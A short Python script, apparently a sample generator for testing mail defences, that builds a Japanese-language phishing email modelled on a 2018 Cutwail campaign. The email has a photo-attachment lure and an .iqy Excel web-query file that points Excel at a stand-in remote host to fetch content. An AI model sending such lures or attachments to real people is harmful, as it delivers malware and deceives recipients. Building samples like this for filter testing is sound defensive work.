"""A query of Excel that fetches formulas from a server out there.
Scenario: Trend Micro, August 2018 (Cutwail, to Japan)."""
from kit import *


def make():
    return (Mail("写真送付の件", "kurosawa@dokoka.example", charset="iso-2022-jp", date="Wed, 08 Aug 2018 11:47:33 +0900")
            .text("お世話になります。\n写真を添付しますのでご確認ください。\n").attach("8_8_2018.iqy", b"WEB\r\n1\r\nhttp://table.example.invalid/dot.php\r\n").bytes())
